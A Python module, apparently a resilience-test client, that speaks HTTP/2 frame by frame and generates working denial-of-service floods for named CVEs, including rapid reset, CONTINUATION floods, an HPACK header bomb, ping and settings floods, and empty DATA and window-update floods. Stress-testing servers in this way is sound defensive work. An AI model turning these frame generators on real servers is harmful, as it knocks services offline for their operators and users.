"""A client that speaks HTTP/2 frame by frame, so that it can break every rule of it (RFC 9113)."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator, Iterable, Sequence
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SECONDS = 60.0
CANCEL = 8  # RFC 9113, section 7


@dataclass(slots=True)
class Wire:
    """One connection; what arrives is read all the time, so that only the attack ever stalls it."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    encoder: Encoder = field(default_factory=Encoder)
    received: int = 0
    closed: asyncio.Event = field(default_factory=asyncio.Event)
    streams: int = 0
    _rest: bytes = b""
    frames: list[Frame] = field(default_factory=list)

    async def send(self, frames: Iterable[Frame]) -> None:
        """Write frames until the server hangs up."""
        with contextlib.suppress(ConnectionError):
            for number, frame in enumerate(frames):
                if self.closed.is_set() or self.writer.is_closing():
                    return
                self.writer.write(frame.serialize())
                if number % 64 == 63:
                    await asyncio.wait_for(self.writer.drain(), SECONDS)
            await asyncio.wait_for(self.writer.drain(), SECONDS)

    def headers(self, path: str, token: str = "", *, verb: str = "GET", end: bool = True) -> HeadersFrame:
        """HEADERS of a new stream."""
        fields = [(":method", verb), (":path", path), (":scheme", "http"), (":authority", "edge")]
        if token:
            fields.append(("authorization", f"Bearer {token}"))
        if verb == "POST":
            fields.append(("content-type", "application/json"))
        frame = HeadersFrame(2 * self.streams + 1, self.encoder.encode(fields))
        self.streams += 1
        frame.flags.add("END_HEADERS")
        if end:
            frame.flags.add("END_STREAM")
        return frame

    async def read(self) -> None:
        """Take in what the server says, until it hangs up."""
        with contextlib.suppress(ConnectionError):
            while content := await self.reader.read(65536):
                self.received += len(content)
                self._take(content)
        self.closed.set()

    def _take(self, content: bytes) -> None:
        self._rest += content
        while len(self._rest) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self._rest[:9]))
            if len(self._rest) < 9 + length:
                return
            frame.parse_body(memoryview(self._rest[9 : 9 + length]))
            self._rest = self._rest[9 + length :]
            self._answer(frame)

    def _answer(self, frame: Frame) -> None:
        if isinstance(frame, (GoAwayFrame, RstStreamFrame, HeadersFrame)):
            self.frames.append(frame)
        if isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self.writer.write(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())

    async def gone(self) -> None:
        """Wait until the server hung up."""
        await asyncio.wait_for(self.closed.wait(), SECONDS)

    def refused(self, code: int) -> int:
        """How many streams the server reset with a code."""
        return sum(isinstance(frame, RstStreamFrame) and frame.error_code == code for frame in self.frames)


@contextlib.asynccontextmanager
async def connected(url: str, settings: dict[int, int] | None = None) -> AsyncIterator[Wire]:
    """Connect by prior knowledge and send the preface."""
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    wire = Wire(reader, writer)
    writer.write(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
    reading = asyncio.create_task(wire.read())
    try:
        yield wire
    finally:
        writer.close()
        reading.cancel()
        with contextlib.suppress(ConnectionError, asyncio.CancelledError):
            await reading


def resets(wire: Wire, count: int, path: str, token: str) -> Iterable[Frame]:
    """Rapid reset (CVE-2023-44487): streams that are cancelled as soon as they are opened."""
    for _ in range(count):
        opened = wire.headers(path, token)
        yield opened
        yield RstStreamFrame(opened.stream_id, error_code=CANCEL)


def continuations(wire: Wire, count: int) -> Iterable[Frame]:
    """Header blocks without an end (CVE-2024-27316 and its kin)."""
    first = wire.headers("/healthz")
    first.flags.discard("END_HEADERS")
    yield first
    more = ContinuationFrame(first.stream_id, Encoder().encode([("x-more", "v" * 8000)]))
    yield from (more for _ in range(count))


def bombs(wire: Wire, count: int) -> Iterable[Frame]:
    """A header of 4 KiB in the dynamic table, named again and again at one byte each (CVE-2016-6581)."""
    large = ("x-bomb", "v" * 3900)
    opened = wire.headers("/healthz")
    opened.data = bytes(opened.data) + wire.encoder.encode([large])
    yield opened
    named = wire.encoder.encode([large]) * 4000
    for _ in range(count):
        again = wire.headers("/healthz")
        again.data = bytes(again.data) + named
        yield again


def pings(count: int) -> Iterable[Frame]:
    """Pings, each of which wants an answer (CVE-2019-9512)."""
    return (PingFrame(0, opaque_data=b"01234567") for _ in range(count))


def settings(count: int) -> Iterable[Frame]:
    """Settings, each of which wants an answer (CVE-2019-9515)."""
    return (SettingsFrame(0, settings={4: 65535 + number % 2}) for number in range(count))


def empties(wire: Wire, count: int) -> Iterable[Frame]:
    """DATA that holds nothing and does not end (CVE-2019-9518)."""
    opened = wire.headers("/v1/tokens", verb="POST", end=False)
    yield opened
    yield from (DataFrame(opened.stream_id) for _ in range(count))


def windows(wire: Wire, count: int) -> Iterable[Frame]:
    """Windows opened by one byte at a time."""
    opened = wire.headers("/v1/tokens", verb="POST", end=False)
    yield opened
    yield from (WindowUpdateFrame(opened.stream_id, window_increment=1) for _ in range(count))


def opened(
    wire: Wire, paths: Sequence[str], token: str, *, end: bool = True, verb: str = "GET"
) -> Iterable[Frame]:
    """Streams that stay open."""
    return (wire.headers(path, token, end=end, verb=verb) for path in paths)
